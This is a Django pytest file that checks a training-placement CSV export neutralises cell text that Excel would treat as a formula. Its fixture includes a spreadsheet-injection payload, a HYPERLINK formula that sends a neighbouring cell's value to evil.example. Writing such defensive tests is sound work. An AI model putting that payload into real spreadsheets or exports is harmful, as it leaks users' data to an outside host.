"""/platser/export.csv: a text that Excel would run as a formula arrives as plain text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse

from tests.factories import (
    AdaptationFactory,
    AgreementFactory,
    EnterpriseFactory,
    MunicipalityFactory,
    OrganisationFactory,
    PlacementTypeFactory,
    ServiceCategoryFactory,
    TrainingPlaceFactory,
    UnitFactory,
)

pytestmark = pytest.mark.django_db
URL = reverse("placements:export")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Öppna")'


def rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


@pytest.fixture
def evil_place(referrer):
    municipality = MunicipalityFactory(name="@Kommunen")
    enterprise = EnterpriseFactory(name="+Plus ekonomisk förening", municipalities=[municipality])
    AgreementFactory(enterprise=enterprise, counterparty=referrer)
    AgreementFactory(
        enterprise=enterprise, counterparty=OrganisationFactory(name="-AB Remittenten")
    )
    unit = UnitFactory(
        enterprise=enterprise,
        name="=Enheten",
        street_address="-Gatan 1",
        municipality=municipality,
    )
    place = TrainingPlaceFactory(
        enterprise=enterprise,
        unit=unit,
        title=TITLE,
        service_category=ServiceCategoryFactory(name="=Kafé", slug="kafe"),
        placement_types=[PlacementTypeFactory(code="@AT", name="@Arbetsträning", slug="ond")],
    )
    place.adaptations.set([AdaptationFactory(name="\tLugn miljö")])
    return place


def test_text_that_starts_like_a_formula_is_neutralised_in_the_export(officer_client, evil_place):
    header, *body = rows(officer_client.get(URL))

    assert len(body) == 1
    record = dict(zip(header, body[0], strict=True))
    assert record["Plats"] == f"'{TITLE}"
    assert record["Företag"] == "'+Plus ekonomisk förening"
    assert record["Enhet"] == "'=Enheten"
    assert record["Adress"] == "'-Gatan 1, 195 00 Märsta"
    assert record["Kommun"] == "'@Kommunen"
    assert record["Verksamhet"] == "'=Kafé"
    assert record["Placeringstyper"] == "'@AT"
    assert record["Anpassningar"] == "'\tLugn miljö"
    assert record["Avtal med"] == "'-AB Remittenten, Arbetsförmedlingen Märsta"
    for cell in body[0]:
        assert is_number(cell) or not cell.startswith(FORMULA_STARTS), cell


def test_the_numbers_of_the_export_stay_numbers(officer_client, evil_place):
    content = officer_client.get(URL).content.decode("utf-8-sig")

    # Hours from 10 to 30, three seats, all free: bare numbers, not quoted text.
    assert ";10;30;3;3;" in content.splitlines()[1]
